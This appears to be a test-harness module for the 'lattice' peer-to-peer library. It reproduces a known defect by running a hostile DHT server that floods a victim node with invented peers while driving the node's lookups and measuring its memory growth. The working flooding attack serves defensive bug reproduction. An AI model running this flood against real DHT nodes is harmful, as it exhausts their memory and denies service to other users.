"""DHT replies naming made-up peers (issue 16, defect 13): the victim's peer store remembered every
peer a reply named, without bound.

The attacker is a DHT server of ours that the victim has in its routing table. Every query it gets
is answered with 40 provider entries and 40 closer peers, all invented (random ids, addresses in
10/8). The victim is made to ask it through its own control socket (``dht.providers`` of fresh
keys, as any application looking for a provider would), until it has been told of ``peers`` peers.
"""

from __future__ import annotations

import os
import time
from typing import Any

import trio

from lattice import _proto
from lattice.control.client import Client
from lattice.dht import protocol
from lattice.errors import LatticeError
from lattice.identity import KeyPair, PeerId
from lattice.multiaddr import Multiaddr
from lattice.transport import open_host
from lattice.transport.framing import read_delimited

from .transport import RSSWatch

DEFAULT_PROTOCOL = "/lattice/kad/1.0.0"


def fake_entries(n: int) -> list[protocol.PeerEntry]:
    """``n`` peers that do not exist: random sha2-256 peer ids at random private addresses."""
    out = []
    for _ in range(n):
        raw = os.urandom(6)
        ip = f"10.{raw[0]}.{raw[1]}.{raw[2] or 1}"
        addr = Multiaddr.parse(f"/ip4/{ip}/tcp/{1024 + int.from_bytes(raw[3:5], 'big') % 60000}")
        out.append(protocol.PeerEntry(PeerId(b"\x12\x20" + os.urandom(32)), [addr]))
    return out


async def fake_peer_replies(
    victim: str,
    control: str,
    peers: int = 100_000,
    victim_pid: int | None = None,
    protocol_id: str = DEFAULT_PROTOCOL,
) -> dict[str, Any]:
    """Serve made-up peers to the victim at ``victim`` (multiaddr) and drive its lookups through its
    control socket ``control`` until ``peers`` were named. Returns counts and the victim's RSS."""
    out: dict[str, Any] = {"attack": "fake_peer_replies", "named": 0, "replies": 0, "lookups": 0}
    watch = RSSWatch(victim_pid) if victim_pid else None

    async def serve(stream) -> None:
        while out["named"] < peers:
            raw = await read_delimited(stream, protocol.MAX_MESSAGE)
            if raw is None:
                return
            request = protocol.decode(raw)
            half = protocol.MAX_PEERS
            reply = protocol.Message(
                request.type, request.key, providers=fake_entries(half), closer=fake_entries(half)
            )
            await stream.write(_proto.delimited(protocol.encode(reply)))
            out["named"] += 2 * half
            out["replies"] += 1

    started = time.monotonic()
    client = Client(control)
    try:
        async with open_host(KeyPair.generate()) as host:
            host.set_stream_handler(protocol_id, serve)
            await host.listen("/ip4/127.0.0.1/tcp/0")
            async with trio.open_nursery() as nursery:
                if watch is not None:
                    nursery.start_soon(watch.run)
                with trio.fail_after(10):
                    conn = await host.connect(victim)
                    while await trio.to_thread.run_sync(_in_table, client, str(host.peer_id)) is False:
                        await trio.sleep(0.05)
                while out["named"] < peers:
                    key = "flood/" + os.urandom(8).hex()
                    try:
                        await trio.to_thread.run_sync(lambda k=key: client.call("dht.providers", key=k))
                    except LatticeError as exc:
                        out["error"] = str(exc)
                        break
                    out["lookups"] += 1
                    if conn.closed:
                        out["error"] = "the victim closed our connection"
                        break
                nursery.cancel_scope.cancel()
    finally:
        client.close()
    out["seconds"] = round(time.monotonic() - started, 2)
    if watch is not None:
        out.update(victim_rss_start_mib=round(watch.start, 1), victim_rss_peak_mib=round(watch.peak, 1))
    return out


def _in_table(client: Client, peer: str) -> bool:
    """Is ``peer`` in the victim's routing table yet (identified as a DHT server)?"""
    return any(row["peer_id"] == peer and row["in_dht"] for row in client.call("metrics")["peers"])
